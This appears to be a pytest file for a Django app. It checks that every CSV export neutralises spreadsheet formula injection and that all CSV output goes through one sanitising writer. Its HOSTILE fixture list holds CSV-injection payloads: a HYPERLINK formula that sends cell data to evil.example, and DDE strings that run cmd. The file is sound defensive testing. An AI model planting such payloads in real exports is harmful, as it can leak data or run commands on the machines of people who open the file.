"""Every CSV export, with hostile text in every cell it writes: nothing a spreadsheet would
read as a formula (a cell starting with = + - @, a tab or a carriage return).

The exports are found by sweeping every URL of the matrix as a role allowed to GET it, so a
new CSV export is covered without an entry here. Every CSV goes through one writer,
config/spreadsheet.py; the source scan below keeps it that way."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.test import Client

from networks.models import WorkArea
from representatives.models import Administration
from tests.accounts.support import sign_in_as
from tests.security.matrix import OK, cases_for
from tests.security.support import all_routes

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1;"Klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
KNOWN_EXPORTS = {
    "network_contacts_csv",
    "report_attendance_csv",
    "report_work_areas_csv",
    "goal_report_csv",
}


def make_hostile(world) -> None:
    """Put a hostile text in every free-text field the exports write."""
    texts = iter(HOSTILE * 10)
    for administration in Administration.objects.all():
        administration.name = next(texts)
        administration.save(update_fields=["name"])
    for person in type(world.staff).objects.all():
        person.full_name = next(texts)
        person.save(update_fields=["full_name"])
    for area in WorkArea.objects.all():
        area.name = next(texts)
        area.save(update_fields=["name"])
    for goal in (world.goal_neh, world.goal_nsh):
        goal.title = next(texts)
        goal.save(update_fields=["title"])
    for indicator in (world.indicator_neh, world.foreign_indicator, world.indicator_nsh):
        indicator.name = next(texts)
        indicator.unit = next(texts)[:50]
        indicator.save(update_fields=["name", "unit"])


def csv_exports(world, user_for_role) -> dict[str, bytes]:
    clients: dict[str, Client] = {}
    found = {}
    for route in all_routes():
        for case in cases_for(route):
            role = next((r for r, outcome in case.access.items() if outcome == OK), None)
            if role is None:
                continue
            if role not in clients:
                clients[role] = Client()
                user = user_for_role(role)
                if user is not None:
                    sign_in_as(clients[role], user)
            response = clients[role].get(case.url(route.name, world))
            if response.get("Content-Type", "").startswith("text/csv"):
                found[route.key] = response.content
    return found


def test_no_csv_export_writes_a_formula(world, user_for_role):
    make_hostile(world)
    exports = csv_exports(world, user_for_role)
    assert set(exports) >= KNOWN_EXPORTS, sorted(exports)
    wrong = []
    for name, content in exports.items():
        text = content.decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
        wrong += [f"{name}: {cell!r}" for cell in cells if cell.startswith(DANGEROUS)]
        # The hostile text is there, shown as text (behind an apostrophe), not dropped.
        assert any(cell.startswith("'") for cell in cells), name
    assert not wrong, "Cells a spreadsheet would run as formulas:\n  " + "\n  ".join(wrong)


def test_contact_list_keeps_the_text_as_typed(client, world):
    make_hostile(world)
    sign_in_as(client, world.coordinator)
    text = client.get("/natverk/neh/kontaktlista.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    names = {row[2] for row in rows[1:]}
    world.representative.refresh_from_db()
    assert "'" + world.representative.full_name in names


def test_numbers_stay_numbers():
    from config.spreadsheet import neutralise

    assert neutralise(-5) == -5
    assert neutralise("-5") == "'-5"
    assert neutralise("Miljö = viktigt") == "Miljö = viktigt"


def test_rows_checked_in_their_text_columns_only():
    from config.spreadsheet import CSVWriter

    stream = io.StringIO()
    row = ["=A1", "-2", "@x", -3]
    CSVWriter(stream).writerows([row, ("+1", "ok", "=B2", 4)], text_columns=(0, 2))
    assert stream.getvalue().splitlines() == ["'=A1;-2;'@x;-3", "'+1;ok;'=B2;4"]
    assert row == ["=A1", "-2", "@x", -3]  # the caller's row is left as it was


def test_every_csv_goes_through_the_one_writer():
    offenders = []
    for app in ("accounts", "networks", "representatives", "meetings", "config"):
        for path in (ROOT / app).rglob("*.py"):
            if path.relative_to(ROOT).as_posix() == "config/spreadsheet.py":
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"^\s*import csv\b|^\s*from csv import|csv\.writer", text, re.M):
                offenders.append(str(path.relative_to(ROOT)))
    assert not offenders, f"Write CSV with config.spreadsheet.csv_download: {offenders}"


def test_cells_written_by_hand_are_the_writers():
    """`text_cell` and `quoted_cell` (rows a view writes out itself, `CSVWriter.write_lines`)
    give what `CSVWriter.writerows` writes: typed text made safe, and every cell quoted as
    csv.writer quotes it."""
    from config.spreadsheet import CSVWriter, quoted_cell, text_cell

    texts = ["=A1", "-2", 'Mål; "citat"', "rad\nny", "\rretur", '"', "", "vanlig", "+;x", "@"]
    expected = io.StringIO()
    CSVWriter(expected).writerows([[text, text] for text in texts], text_columns=(0,))
    by_hand = io.StringIO()
    CSVWriter(by_hand).write_lines(
        "".join(f"{text_cell(text)};{quoted_cell(text)}\r\n" for text in texts)
    )
    assert by_hand.getvalue() == expected.getvalue()
    assert text_cell('=HYPERLINK("x")') == '"\'=HYPERLINK(""x"")"'
